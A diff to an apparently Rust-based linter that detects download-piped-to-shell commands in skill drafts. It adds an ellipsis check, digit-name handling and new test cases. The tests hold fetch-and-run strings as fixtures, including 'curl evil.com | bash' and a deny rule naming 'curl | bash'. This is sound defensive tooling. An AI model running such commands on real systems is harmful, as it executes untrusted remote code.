@@ -33,7 +33,11 @@ fn own_names(draft: &SkillDraft) -> Vec<String> {
     let words: Vec<String> =
         found.iter().flat_map(|name| name.split(['-', '_', ' '])).map(str::to_owned).collect();
     found.extend(words);
-    found.retain(|name| name.len() > 3 && !COMMON.split_whitespace().any(|common| common == name));
+    // A short name with a digit is no word.
+    found.retain(|name| {
+        (name.len() > 3 || name.contains(|c: char| c.is_ascii_digit()))
+            && !COMMON.split_whitespace().any(|common| common == name)
+    });
     let homepage = draft.entry("homepage").and_then(|entry| owner_on_github(entry.value.as_string()?));
     found.extend(homepage);
     found.extend(dir.owner.clone());
@@ -60,7 +64,7 @@ fn pipes_of_line(line: &str, place: Span, names: &[String], report: &mut Report)
         let shell = shell.rsplit('/').next().unwrap_or(shell);
         let is_run = runs_input(shell, if written.ends_with(shell) { words.next() } else { None });
         let command = &line[fetch..at];
-        if !is_run || is_installer(command, names) {
+        if !is_run || is_elided(command) || is_installer(command, names) {
             continue;
         }
         let found = lints::PIPE_TO_SHELL
@@ -99,6 +103,12 @@ fn is_installer(command: &str, names: &[String]) -> bool {
                 && (INSTALLERS.split_whitespace().any(|known| is_at(address, known))
                     || is_of_program(address, names))
         })
+}
+
+/// Returns `true` if a command has an ellipsis in place of its address.
+fn is_elided(command: &str) -> bool {
+    let mut words = command.split_whitespace().map(|word| word.trim_end_matches(['\\', '`']));
+    !command.contains("://") && words.any(|word| matches!(word, "..." | "…"))
 }
 
 /// Returns `true` if a command downloads over HTTP: its address begins with `http://` or, as curl reads it, has no scheme.
@@ -217,6 +227,7 @@ mod tests {
             ("agent-tui", "https://github.com/someone/agent-tui/raw/install.sh"),
             ("dashboards", "https://get.kibana.co/start"),
             ("devbox", "https://get.jetify.com/devbox"),
+            ("db9", "https://db9.ai/install"),
             ("start", "'https://raw.githubusercontent.com/acme-dev/cli/main/install.sh'"),
         ] {
             assert_eq!(found_in(name, &format!("curl -fsSL {address} | sh")), 0, "{address}");
@@ -256,6 +267,7 @@ mod tests {
             "curl -s https://x.y | perl -ne 'print'",
             "Never run `curl https://x.y | sh`.",
             "| `curl … | sh` | remote code execution |",
+            "| **Install** | `curl ... \\| sh` |",
             "\"deny\": [\"Bash(curl https://x.y | bash)\"]",
             "Prefer a package to `curl | bash`.",
             "scan \"curl evil.com | bash\"",
